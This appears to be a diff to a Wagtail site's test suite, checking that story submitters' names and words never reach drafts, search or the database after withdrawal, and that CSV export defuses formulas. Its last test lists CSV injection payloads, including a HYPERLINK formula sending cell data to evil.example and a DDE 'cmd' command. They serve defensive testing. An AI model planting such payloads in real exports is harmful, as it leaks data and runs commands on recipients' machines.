@@ -80,21 +80,54 @@ def test_moderator_turns_a_submission_into_a_draft_story(client, submission, mod
     client.force_login(moderator)
     url = f"/admin/stories/submissions/{submission.pk}/create-story/"
     assert client.get(url).status_code == 200  # a confirmation, nothing changed yet
-    assert not StoryPage.objects.filter(byline="Robin").exists()
+    assert not StoryPage.objects.filter(slug=f"story-{submission.pk}").exists()
     response = client.post(url)
-    story = StoryPage.objects.get(byline="Robin")
+    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
     assert response.status_code == 302 and response["Location"] == f"/admin/pages/{story.pk}/edit/"
     assert not story.live
     assert story.role == "received"
     assert set(story.topics.values_list("slug", flat=True)) == {"twins-and-multiples", "premature-or-sick-babies"}
     assert story.consent_version == submission.consent_version
-    assert "twins were born early" in str(story.body)
-    # The contact email is never copied onto the page, in any field or revision.
-    assert "robin@example.org" not in str(story.latest_revision.content)
+    # Nothing the reader wrote is copied: not the story, the name or the email, in any field or revision.
+    assert story.title == f"Story from submission {submission.pk}" and story.byline == "Anonymous"
+    revision = str(story.latest_revision.content)
+    for personal in ["twins were born early", "Robin", "robin@example.org"]:
+        assert personal not in revision
     submission.refresh_from_db()
     assert submission.story_page_id == story.pk and submission.status == StorySubmission.STORY_CREATED
     # The draft opens in the editor.
     assert client.get(response["Location"]).status_code == 200
+
+
+def test_a_plain_editor_cannot_reach_a_submitters_story_or_name_through_the_draft(
+    client, submission, moderator, editor
+):
+    client.force_login(moderator)
+    client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
+    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
+    client.force_login(editor)
+    urls = [
+        f"/admin/pages/{story.pk}/edit/",
+        f"/admin/pages/{story.pk}/view_draft/",
+        f"/admin/pages/{story.pk}/history/",
+        f"/admin/pages/{story.get_parent().pk}/",
+        "/admin/stories/storypage/",
+    ]
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code in (200, 302), url
+        text = response.content.decode()
+        for personal in ["twins were born early", "Robin", "robin@example.org"]:
+            assert personal not in text, (url, personal)
+    # Searching for the name or the story's words does not find the draft.
+    for url in ["/admin/pages/search/?q=Robin", "/admin/pages/search/?q=twins+born+early",
+                "/admin/stories/storypage/?q=Robin"]:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert not soup(response).select(f'a[href^="/admin/pages/{story.pk}/"]'), url
+    assert soup(client.get("/admin/pages/search/?q=submission")).select(f'a[href^="/admin/pages/{story.pk}/"]')
+    # The draft itself is reachable (editors help with stories), it just holds nothing personal.
+    assert "Story from submission" in client.get("/admin/stories/storypage/").content.decode()
 
 
 def test_stories_go_through_the_moderation_workflow(client, story_index, editor, moderator):
@@ -128,7 +161,8 @@ def test_stories_go_through_the_moderation_workflow(client, story_index, editor,
 def test_withdrawal_deletes_the_submission_and_its_story(client, submission, moderator):
     client.force_login(moderator)
     client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
-    story = StoryPage.objects.get(byline="Robin")
+    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
+    story.byline = "Robin"
     story.save_revision().publish()
     url = f"/admin/stories/submissions/{submission.pk}/withdraw/"
     assert client.get(url).status_code == 200
@@ -189,3 +223,79 @@ def test_demo_content_makes_varied_stories(story_index):
     assert demo.count() == 12 and all(story.live for story in demo)
     assert len(set(demo.values_list("role", flat=True))) == 3
     assert demo.filter(content_notes__isnull=False).exists() and demo.filter(content_notes__isnull=True).exists()
+
+
+# --- Personal data is erased everywhere Wagtail keeps it ---------------------------------
+
+NAME, WORDS = "Zebediah", "marmalade lighthouse"
+
+
+def database_text():
+    """Every row of every table (Wagtail's search index, revisions and logs included), as one string."""
+    from django.db import connection
+
+    chunks = []
+    with connection.cursor() as cursor:
+        for table in connection.introspection.table_names(include_views=False):
+            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
+            for row in cursor.fetchall():
+                for value in row:
+                    if isinstance(value, (bytes, memoryview)):
+                        value = bytes(value).decode("utf-8", "replace")
+                    chunks.append(str(value))
+    return "\n".join(chunks).lower()
+
+
+def _published_story_from(client, moderator, **post):
+    """A submission, and the story a moderator made from it with the storyteller's name and words."""
+    from wagtail.rich_text import RichText
+
+    assert client.post("/stories/share/", valid_post(
+        name=NAME, story=f"The {WORDS} group helped me more than I can say.", **post
+    )).status_code == 302
+    submission = StorySubmission.objects.get()
+    client.force_login(moderator)
+    client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
+    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
+    story.title, story.byline = f"{NAME}'s story", NAME
+    story.body = [("rich_text", RichText(f"<p>The {WORDS} group helped me.</p>"))]
+    story.save_revision(user=moderator, log_action=True).publish(user=moderator)
+    assert NAME.lower() in database_text() and WORDS in database_text()
+    return submission, story
+
+
+def test_withdrawal_leaves_the_name_and_story_nowhere_in_the_database(client, share_page, moderator, admin_user):
+    submission, story = _published_story_from(client, moderator)
+    assert client.post(f"/admin/stories/submissions/{submission.pk}/withdraw/").status_code == 302
+    text = database_text()
+    assert NAME.lower() not in text and WORDS not in text
+    # The site history still records that a story was deleted, without saying whose.
+    client.force_login(admin_user)
+    history = client.get("/admin/reports/site-history/")
+    assert history.status_code == 200 and "A story withdrawn" in history.content.decode()
+
+
+def test_purge_leaves_the_name_and_story_nowhere_in_the_database(client, share_page, moderator):
+    submission, story = _published_story_from(client, moderator)
+    StoryPage.objects.get(pk=story.pk).unpublish(user=moderator)  # taken down, so the purge may delete it
+    StorySubmission.objects.update(submitted_at=timezone.now() - timedelta(days=181))
+    call_command("purge_story_submissions", stdout=io.StringIO())
+    assert not StorySubmission.objects.exists() and not StoryPage.objects.filter(pk=story.pk).exists()
+    text = database_text()
+    assert NAME.lower() not in text and WORDS not in text
+
+
+@pytest.mark.parametrize("hostile", [
+    '=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+])
+def test_csv_export_never_hands_a_spreadsheet_a_formula(client, share_page, moderator, hostile):
+    client.post("/stories/share/", valid_post(name=hostile[:100], support_that_helped=hostile,
+                                             story=hostile + " and then the group helped me a lot."))
+    client.force_login(moderator)
+    export = client.get(f"{LIST}?export=csv")
+    body = b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
+    row = list(csv.DictReader(io.StringIO(body)))[0]
+    for heading in ["Name", "Story", "Support that helped"]:
+        assert row[heading].startswith("'"), (heading, row[heading])
+        assert row[heading][1:].startswith(hostile.strip()[:10])  # the text is kept, only defused
+    assert row["Email"] == "robin@example.org"  # ordinary text is untouched
